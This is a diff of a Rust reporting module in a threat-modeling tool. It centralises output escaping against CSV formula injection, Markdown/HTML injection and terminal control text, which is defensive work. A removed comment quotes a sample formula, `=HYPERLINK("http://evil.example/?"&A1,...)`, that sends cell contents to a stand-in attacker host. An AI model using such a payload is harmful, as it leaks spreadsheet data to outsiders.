@@ -1,8 +1,9 @@
 //! Reports: the analysis as text for people and machines (table, JSON, CSV, Markdown,
 //! SARIF). The PDF report joins these later.
 //!
-//! One file, over 800 lines: the text formats share the same ordering, escaping and
-//! severity texts; the PDF and SVG are in their own modules.
+//! One file, over 800 lines: the text formats share the same ordering and severity texts,
+//! and make model text inert through `foundation::escape` as every output does; the PDF
+//! and SVG are in their own modules.
 
 pub mod pdf;
 pub mod svg;
@@ -17,6 +18,7 @@ use serde::Serialize;
 use serde_json::json;
 
 use crate::analysis::{Analysis, Finding, Message};
+use crate::foundation::escape;
 use crate::model::{Category, Project, Severity, Status, WorkshopSession};
 
 /// `S`, `T`, …, or the category text of a non-STRIDE manual threat.
@@ -134,25 +136,13 @@ pub fn json(project: &Project, a: &Analysis) -> String {
         summary: &a.summary,
         rule_changes: &a.rule_changes,
     };
-    let mut s = serde_json::to_string_pretty(&doc).unwrap_or_default();
+    let mut s = escape::json_for_log(serde_json::to_string_pretty(&doc).unwrap_or_default());
     s.push('\n');
     s
 }
 
-/// A cell a spreadsheet will not run: text starting with `=`, `+`, `-`, `@`, a tab or a
-/// carriage return is a formula to Excel, LibreOffice and Google Sheets, so it gets a
-/// leading apostrophe as OWASP recommends against CSV injection (CWE-1236). An element
-/// named `=HYPERLINK("http://evil.example/?"&A1,"x")` is shown as written, not followed.
-pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
-    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
-        std::borrow::Cow::Owned(format!("'{s}"))
-    } else {
-        std::borrow::Cow::Borrowed(s)
-    }
-}
-
-/// A CSV writer whose every cell goes through [`csv_cell`]: the one way this program
-/// writes CSV.
+/// A CSV writer whose every cell is quoted and goes through [`escape::csv_cell`]: the one
+/// way this program writes CSV.
 pub struct CsvWriter {
     inner: csv::Writer<Vec<u8>>,
 }
@@ -160,7 +150,9 @@ pub struct CsvWriter {
 impl CsvWriter {
     pub fn new() -> Self {
         Self {
-            inner: csv::Writer::from_writer(Vec::new()),
+            inner: csv::WriterBuilder::new()
+                .quote_style(csv::QuoteStyle::Always)
+                .from_writer(Vec::new()),
         }
     }
 
@@ -169,7 +161,7 @@ impl CsvWriter {
         cells: impl IntoIterator<Item = &'a str>,
     ) -> csv::Result<()> {
         self.inner
-            .write_record(cells.into_iter().map(csv_cell).map(|c| c.into_owned()))
+            .write_record(cells.into_iter().map(|c| escape::csv_cell(c).into_owned()))
     }
 
     /// The text, with a byte-order mark so spreadsheet programs read it as UTF-8 (names
@@ -261,56 +253,11 @@ pub fn csv(a: &Analysis) -> Result<String, csv::Error> {
     w.finish()
 }
 
-/// User text made inert for Markdown (GitHub, GitLab, wikis): HTML characters become
-/// entities, so `<script>` or `<img onerror=…>` is shown, never run; Markdown's own
-/// inline syntax (emphasis, code, links and images, tables, strike-through) is
-/// backslash-escaped; line breaks become `<br>` so a cell or list item stays one line.
-pub fn md_cell(s: &str) -> String {
-    let mut out = String::with_capacity(s.len() + 8);
-    let mut chars = s.chars().peekable();
-    while let Some(c) = chars.next() {
-        match c {
-            '&' => out.push_str("&amp;"),
-            '<' => out.push_str("&lt;"),
-            '>' => out.push_str("&gt;"),
-            '\r' if chars.peek() == Some(&'\n') => {}
-            '\r' | '\n' => out.push_str("<br>"),
-            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' | '#' | '!' => {
-                out.push('\\');
-                out.push(c);
-            }
-            c => out.push(c),
-        }
-    }
-    out
-}
-
-/// Multi-line user text (workshop notes) made inert like [`md_cell`], keeping its lines
-/// as separate lines; a line that would start a block (`- `, `+ `, `1. `, `>`) is escaped.
-pub fn md_block(s: &str) -> String {
-    s.lines()
-        .map(|line| {
-            let cell = md_cell(line);
-            let starts_block = cell.starts_with(['-', '+', '='])
-                || cell.starts_with("&gt;")
-                || cell
-                    .split_once(['.', ')'])
-                    .is_some_and(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()));
-            if starts_block {
-                format!("\\{cell}")
-            } else {
-                cell
-            }
-        })
-        .collect::<Vec<_>>()
-        .join("  \n")
-}
-
 /// A Markdown table of threats per diagram, for a wiki page or a pull request.
 pub fn markdown(project: &Project, a: &Analysis) -> String {
     use std::fmt::Write;
     let mut s = String::new();
-    let _ = writeln!(s, "# Threats: {}\n", md_cell(&project.meta.title));
+    let _ = writeln!(s, "# Threats: {}\n", escape::md_inline(&project.meta.title));
     let sum = &a.summary;
     let _ = writeln!(
         s,
@@ -323,7 +270,11 @@ pub fn markdown(project: &Project, a: &Analysis) -> String {
         crate::edit::count(sum.warnings, "warning", "warnings")
     );
     if let Some(changes) = a.rule_changes_text() {
-        let _ = writeln!(s, "## Rule changes\n\n**{}**\n", md_cell(&changes));
+        let _ = writeln!(
+            s,
+            "## Rule changes\n\n**{}**\n",
+            escape::md_inline(&changes)
+        );
     }
     // What a signer signs, first: open high/critical threats and accepted/transferred ones.
     let register = residual_register(a);
@@ -352,20 +303,20 @@ pub fn markdown(project: &Project, a: &Analysis) -> String {
                 _ => format!("{} {}", r.decided_by, r.decided_at.get(..10).unwrap_or("")),
             };
             let review = if r.due_for_review(&now) {
-                format!("**{} (due)**", md_cell(&r.review_by))
+                format!("**{} (due)**", escape::md_inline(&r.review_by))
             } else {
-                md_cell(&r.review_by)
+                escape::md_inline(&r.review_by)
             };
             let _ = writeln!(
                 s,
                 "| {} | {} | {} | {} | {} | {} | {} | {} |",
                 f.severity.label(),
                 f.status().label(),
-                md_cell(f.subject_name()),
-                md_cell(&f.title),
-                md_cell(text),
-                md_cell(&r.owner),
-                md_cell(decided.trim()),
+                escape::md_inline(f.subject_name()),
+                escape::md_inline(&f.title),
+                escape::md_inline(text),
+                escape::md_inline(&r.owner),
+                escape::md_inline(decided.trim()),
                 review
             );
         }
@@ -373,7 +324,7 @@ pub fn markdown(project: &Project, a: &Analysis) -> String {
     }
     for d in &project.diagrams {
         let rows = ranked_threats(a, d.id.as_str());
-        let _ = writeln!(s, "## {}\n", md_cell(&d.name));
+        let _ = writeln!(s, "## {}\n", escape::md_inline(&d.name));
         if rows.is_empty() {
             let _ = writeln!(s, "No threats.\n");
         } else {
@@ -388,11 +339,11 @@ pub fn markdown(project: &Project, a: &Analysis) -> String {
                     "| {} | {} | {} | {} | {} | {} | {} | `{}` |",
                     f.severity.label(),
                     f.status().label(),
-                    md_cell(&category_code(&f.category)),
-                    md_cell(f.subject_name()),
-                    md_cell(&f.title),
-                    md_cell(reason_only(&f.severity_reason)),
-                    md_cell(&f.record.mitigation),
+                    escape::md_inline(&category_code(&f.category)),
+                    escape::md_inline(f.subject_name()),
+                    escape::md_inline(&f.title),
+                    escape::md_inline(reason_only(&f.severity_reason)),
+                    escape::md_inline(&f.record.mitigation),
                     f.key
                 );
             }
@@ -407,7 +358,12 @@ pub fn markdown(project: &Project, a: &Analysis) -> String {
             let _ = writeln!(s, "| Subject | Open questions |");
             let _ = writeln!(s, "|---|---|");
             for (name, letters) in checklist {
-                let _ = writeln!(s, "| {} | {} |", md_cell(name), letters);
+                let _ = writeln!(
+                    s,
+                    "| {} | {} |",
+                    escape::md_inline(name),
+                    escape::md_inline(&letters)
+                );
             }
             let _ = writeln!(s);
         }
@@ -420,7 +376,7 @@ pub fn markdown(project: &Project, a: &Analysis) -> String {
                 "- **{}** `{}`: {}",
                 m.level.label(),
                 m.code,
-                md_cell(&m.message)
+                escape::md_inline(&m.message)
             );
         }
     }
@@ -462,10 +418,12 @@ pub fn reason_only(reason: &str) -> &str {
     reason.split_once(": ").map_or(reason, |(_, r)| r)
 }
 
+/// Model text for a terminal column: one line (as [`escape::line`] shows it), at most
+/// `width` characters.
 fn truncate(s: &str, width: usize) -> String {
-    let s = s.replace('\n', " ");
+    let s = escape::line(s);
     if s.chars().count() <= width {
-        s
+        s.into_owned()
     } else {
         let mut t: String = s.chars().take(width.saturating_sub(1)).collect();
         t.push('…');
@@ -477,7 +435,7 @@ fn truncate(s: &str, width: usize) -> String {
 pub fn table(project: &Project, a: &Analysis) -> String {
     use std::fmt::Write;
     let mut s = String::new();
-    let _ = writeln!(s, "{}", project.meta.title);
+    let _ = writeln!(s, "{}", escape::line(&project.meta.title));
     let _ = writeln!(
         s,
         "{:<8} {:<19} {:<3} {:<28} TITLE",
@@ -492,7 +450,7 @@ pub fn table(project: &Project, a: &Analysis) -> String {
                 f.status().snake(),
                 truncate(&category_code(&f.category), 3),
                 truncate(f.subject_name(), 28),
-                f.title.replace('\n', " ")
+                escape::line(&f.title)
             );
         }
     }
@@ -514,17 +472,23 @@ pub fn table(project: &Project, a: &Analysis) -> String {
     if !a.validation.is_empty() {
         let _ = writeln!(s, "\nValidation:");
         for m in &a.validation {
-            let _ = writeln!(s, "{:<8} {:<28} {}", m.level.label(), m.code, m.message);
+            let _ = writeln!(
+                s,
+                "{:<8} {:<28} {}",
+                m.level.label(),
+                m.code,
+                escape::line(&m.message)
+            );
         }
     }
     if !a.out_of_scope.is_empty() {
         let _ = writeln!(s, "\nOut of scope:");
         for o in &a.out_of_scope {
-            let _ = writeln!(s, "{}: {}", o.name, o.reason);
+            let _ = writeln!(s, "{}: {}", escape::line(&o.name), escape::line(&o.reason));
         }
     }
     if let Some(changes) = a.rule_changes_text() {
-        let _ = writeln!(s, "\nRule changes: {changes}");
+        let _ = writeln!(s, "\nRule changes: {}", escape::line(&changes));
     }
     let sum = &a.summary;
     let _ = writeln!(
@@ -584,7 +548,7 @@ pub fn sarif(project: &Project, a: &Analysis, uri: &str, text: &str, version: &s
     let mut rules: Vec<serde_json::Value> = Vec::new();
     let mut rule_index: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
     for f in &a.findings {
-        let id = f.rule_id().to_owned();
+        let id = escape::sarif_id(f.rule_id()).into_owned();
         if rule_index.contains_key(&id) {
             continue;
         }
@@ -619,8 +583,8 @@ pub fn sarif(project: &Project, a: &Analysis, uri: &str, text: &str, version: &s
         .iter()
         .map(|f| {
             let mut result = json!({
-                "ruleId": f.rule_id(),
-                "ruleIndex": rule_index.get(f.rule_id()).copied().unwrap_or(0),
+                "ruleId": escape::sarif_id(f.rule_id()),
+                "ruleIndex": rule_index.get(&*escape::sarif_id(f.rule_id())).copied().unwrap_or(0),
                 "level": sarif_level(f),
                 "message": { "text": format!("{} [{}] on {}: {}", f.title, f.severity_reason, f.subject_name(), f.description()) },
                 "locations": [{
@@ -634,7 +598,7 @@ pub fn sarif(project: &Project, a: &Analysis, uri: &str, text: &str, version: &s
                         "kind": f.subject_kind.snake(),
                     }],
                 }],
-                "partialFingerprints": { "threatKey/v1": f.key.to_string() },
+                "partialFingerprints": { "threatKey/v1": escape::sarif_id(&f.key.to_string()) },
                 "properties": {
                     "status": f.status().snake(),
                     "severity": f.severity.label(),
@@ -663,7 +627,7 @@ pub fn sarif(project: &Project, a: &Analysis, uri: &str, text: &str, version: &s
                 "version": version,
                 "rules": rules,
             }},
-            "automationDetails": { "id": format!("threatboard/{}", project.meta.title) },
+            "automationDetails": { "id": format!("threatboard/{}", escape::sarif_id(&project.meta.title)) },
             "results": results,
             "properties": {
                 "ruleChanges": a.rule_changes,
@@ -671,20 +635,22 @@ pub fn sarif(project: &Project, a: &Analysis, uri: &str, text: &str, version: &s
             },
         }],
     });
-    let mut s = serde_json::to_string_pretty(&doc).unwrap_or_default();
+    let mut s = escape::json_for_log(serde_json::to_string_pretty(&doc).unwrap_or_default());
     s.push('\n');
     s
 }
 
-/// A validation message as one line: `error missing-justification SUBJECT: message`.
+/// A validation message as one line: `error missing-justification SUBJECT: message`,
+/// its model text escaped as [`escape::line`] shows it.
 pub fn message_line(m: &Message) -> String {
-    format!(
+    let line = format!(
         "{} {} {}: {}",
         m.level.label(),
         m.code,
         m.subject,
         m.message
-    )
+    );
+    escape::line(&line).into_owned()
 }
 
 /// The residual risk a signer signs: every open high or critical threat (highest first),
@@ -834,18 +800,22 @@ pub fn session_markdown(
     let _ = writeln!(
         s,
         "# Threat modeling workshop: {}\n",
-        md_cell(&project.meta.title)
+        escape::md_inline(&project.meta.title)
     );
     let _ = writeln!(
         s,
         "- When: {}",
         human_span(&session.started, &session.ended)
     );
-    let _ = writeln!(s, "- Facilitator: {}", md_cell(&session.facilitator));
+    let _ = writeln!(
+        s,
+        "- Facilitator: {}",
+        escape::md_inline(&session.facilitator)
+    );
     let _ = writeln!(
         s,
         "- Participants: {}\n",
-        md_cell(&session.participants.join(", "))
+        escape::md_inline(&session.participants.join(", "))
     );
     let decided = session_decisions(project, analysis, session);
     let _ = writeln!(s, "## Decisions ({})\n", decided.len());
@@ -866,11 +836,11 @@ pub fn session_markdown(
             let _ = writeln!(
                 s,
                 "| {} | {} | {} | {} | {} |",
-                md_cell(&f.title),
-                md_cell(f.subject_name()),
+                escape::md_inline(&f.title),
+                escape::md_inline(f.subject_name()),
                 f.status().label(),
-                md_cell(text),
-                md_cell(&f.record.owner)
+                escape::md_inline(text),
+                escape::md_inline(&f.record.owner)
             );
         }
         let _ = writeln!(s);
@@ -909,13 +879,13 @@ pub fn session_markdown(
             } else {
                 " "
             },
-            md_cell(&f.title),
-            md_cell(&f.record.mitigation),
-            md_cell(&f.record.owner)
+            escape::md_inline(&f.title),
+            escape::md_inline(&f.record.mitigation),
+            escape::md_inline(&f.record.owner)
         );
     }
     if !session.notes.is_empty() {
-        let _ = writeln!(s, "\n## Notes\n\n{}", md_block(&session.notes));
+        let _ = writeln!(s, "\n## Notes\n\n{}", escape::md_block(&session.notes));
     }
     s
 }
